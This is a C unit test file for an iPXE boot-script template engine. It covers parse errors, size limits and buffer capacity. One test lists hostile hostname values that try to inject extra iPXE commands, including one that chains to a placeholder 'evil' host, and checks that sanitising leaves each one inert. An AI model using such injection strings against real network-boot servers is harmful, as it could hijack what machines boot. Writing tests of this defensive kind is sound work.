/* SPDX-License-Identifier: MIT */
/*
 * The /boot.ipxe template engine: parse-time errors with line:column,
 * iPXE's ${...} untouched, and values from the network that try to inject
 * iPXE commands (newline, ${, ||, &&, quotes, #, blanks, a leading '-').
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "ipxe_template.h"

static struct ipxe_template *parse_ok(const char *text)
{
	struct ipxe_template_error e;
	struct ipxe_template *t = NULL;

	assert_int_equal(ipxe_template_parse(text, strlen(text), &t, &e), 0);
	assert_non_null(t);
	return t;
}

static void parse_fails_at(const char *text, size_t n, unsigned line, unsigned col,
			   const char *msg)
{
	struct ipxe_template_error e;
	struct ipxe_template *t = NULL;

	assert_int_equal(ipxe_template_parse(text, n, &t, &e), -EINVAL);
	assert_null(t);
	assert_int_equal(e.line, line);
	assert_int_equal(e.column, col);
	assert_non_null(strstr(e.msg, msg));
}

/* Renders t into a fresh string (to free()). */
static char *render(const struct ipxe_template *t, const struct ipxe_values *v)
{
	size_t cap = ipxe_template_render_max(t);
	char *out = malloc(cap);
	ssize_t n;

	assert_non_null(out);
	n = ipxe_template_render(t, v, out, cap);
	assert_true(n >= 0);
	assert_int_equal(strlen(out), (size_t)n);
	return out;
}

static void placeholders_are_replaced_and_ipxe_settings_kept(void **state)
{
	struct ipxe_template *t = parse_ok("#!ipxe\nchain {{http}}/{{ mac }}.ipxe?u=${uuid} "
					   "|| echo {{arch}}{ }}\n");
	struct ipxe_values v = { .v = { [IPXE_VAR_HTTP] = "http://10.0.0.1:8080",
					[IPXE_VAR_MAC] = "52:54:00:12:34:56",
					[IPXE_VAR_ARCH] = "x86_64" } };
	char *out = render(t, &v);

	(void)state;
	assert_string_equal(out, "#!ipxe\nchain http://10.0.0.1:8080/52:54:00:12:34:56.ipxe"
				 "?u=${uuid} || echo x86_64{ }}\n");
	free(out);
	ipxe_template_free(t);
}

static void every_placeholder_name_is_known(void **state)
{
	char text[512] = "#!ipxe\n";
	struct ipxe_template *t;

	(void)state;
	for (int i = 0; i < IPXE_VAR_COUNT; i++) {
		strcat(text, "{{");
		strcat(text, ipxe_var_name((enum ipxe_var)i));
		strcat(text, "}}\n");
	}
	t = parse_ok(text);
	ipxe_template_free(t);
}

static void absent_values_render_empty(void **state)
{
	struct ipxe_template *t = parse_ok("#!ipxe\necho [{{hostname}}] [{{uuid}}]\n");
	struct ipxe_values v = { 0 };
	char *out = render(t, &v);

	(void)state;
	assert_string_equal(out, "#!ipxe\necho [] []\n");
	free(out);
	ipxe_template_free(t);
}

static void mistakes_are_reported_with_line_and_column(void **state)
{
	static const char nul[] = "#!ipxe\necho a\0b\n";

	(void)state;
	parse_fails_at("#!ipxe\necho\nchain {{nope}}\n", 27, 3, 9, "unknown placeholder {{nope}}");
	parse_fails_at("#!ipxe\nx {{ Mac }}\n", 19, 2, 6, "{{Mac}}"); /* names are case-sensitive */
	parse_fails_at("#!ipxe\necho {{mac\n}}\n", 21, 2, 6, "without a closing");
	parse_fails_at("#!ipxe\necho {{mac} }\n", 21, 2, 6, "without a closing");
	parse_fails_at("#!ipxe\n{{", 9, 2, 1, "without a closing");
	parse_fails_at("#!ipxe\n{{}}\n", 12, 2, 3, "unknown placeholder {{}}");
	parse_fails_at("echo hi\n", 8, 1, 1, "#!ipxe");
	parse_fails_at("\xef\xbb\xbf#!ipxe\n", 10, 1, 1, "#!ipxe"); /* no BOM (X5) */
	parse_fails_at("#!ipxeecho\n", 11, 1, 1, "#!ipxe");
	parse_fails_at(nul, sizeof(nul) - 1, 2, 7, "NUL");
}

static void an_oversized_template_is_refused(void **state)
{
	size_t n = IPXE_TEMPLATE_MAX + 1;
	char *text = malloc(n);
	struct ipxe_template_error e;
	struct ipxe_template *t = NULL;

	(void)state;
	assert_non_null(text);
	memset(text, 'a', n);
	memcpy(text, "#!ipxe\n", 7);
	assert_int_equal(ipxe_template_parse(text, n, &t, &e), -EFBIG);
	assert_int_equal(ipxe_template_parse(text, n - 1, &t, &e), 0);
	ipxe_template_free(t);
	free(text);
}

/* Each hostile value must stay one inert word on its line. */
static void hostile_values_cannot_inject_commands(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ "pc1\nshell", "pc1_shell" },
		{ "pc1\r\nchain http://evil/x", "pc1__chain_http://evil/x" },
		{ "${net0/mac}", "__net0/mac_" },
		{ "a || shell", "a____shell" },
		{ "a&&shell", "a__shell" },
		{ "a;shell", "a_shell" },
		{ "\"quoted\" 'single'", "_quoted___single_" },
		{ "#comment", "_comment" },
		{ "back\\slash", "back_slash" },
		{ "--autofree", "_-autofree" },
		{ "tab\there", "tab_here" },
		{ "caf\xc3\xa9", "caf__" },
		{ "MacBookPro11,3", "MacBookPro11,3" },
		{ "host-1.lab.example", "host-1.lab.example" },
		{ "", "" },
	};
	struct ipxe_template *t = parse_ok("#!ipxe\necho {{hostname}}\n");

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct ipxe_values v = { .v = { [IPXE_VAR_HOSTNAME] = cases[i].in } };
		char *out = render(t, &v), want[128];

		snprintf(want, sizeof(want), "#!ipxe\necho %s\n", cases[i].out);
		assert_string_equal(out, want);
		free(out);
	}
	ipxe_template_free(t);
}

static void long_values_are_cut(void **state)
{
	char big[1000], out[IPXE_VALUE_MAX + 100];

	(void)state;
	memset(big, 'x', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	assert_int_equal(ipxe_value_sanitize(big, out, sizeof(out)), IPXE_VALUE_MAX);
	assert_int_equal(ipxe_value_sanitize(big, out, 5), 4);
	assert_string_equal(out, "xxxx");
	assert_int_equal(ipxe_value_sanitize(NULL, out, sizeof(out)), 0);
	assert_string_equal(out, "");
}

static void rendering_fails_at_every_short_capacity(void **state)
{
	struct ipxe_template *t = parse_ok("#!ipxe\necho {{mac}} ok\n");
	struct ipxe_values v = { .v = { [IPXE_VAR_MAC] = "52:54:00:12:34:56" } };
	const char *want = "#!ipxe\necho 52:54:00:12:34:56 ok\n";
	size_t need = strlen(want) + 1;
	char out[128];

	(void)state;
	for (size_t cap = 0; cap < need; cap++)
		assert_int_equal(ipxe_template_render(t, &v, out, cap), -ENOSPC);
	assert_int_equal(ipxe_template_render(t, &v, out, need), (ssize_t)need - 1);
	assert_string_equal(out, want);
	assert_true(ipxe_template_render_max(t) >= need);
	ipxe_template_free(t);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(placeholders_are_replaced_and_ipxe_settings_kept),
		cmocka_unit_test(every_placeholder_name_is_known),
		cmocka_unit_test(absent_values_render_empty),
		cmocka_unit_test(mistakes_are_reported_with_line_and_column),
		cmocka_unit_test(an_oversized_template_is_refused),
		cmocka_unit_test(hostile_values_cannot_inject_commands),
		cmocka_unit_test(long_values_are_cut),
		cmocka_unit_test(rendering_fails_at_every_short_capacity),
	};

	return cmocka_run_group_tests_name("ipxe template", tests, NULL, NULL);
}
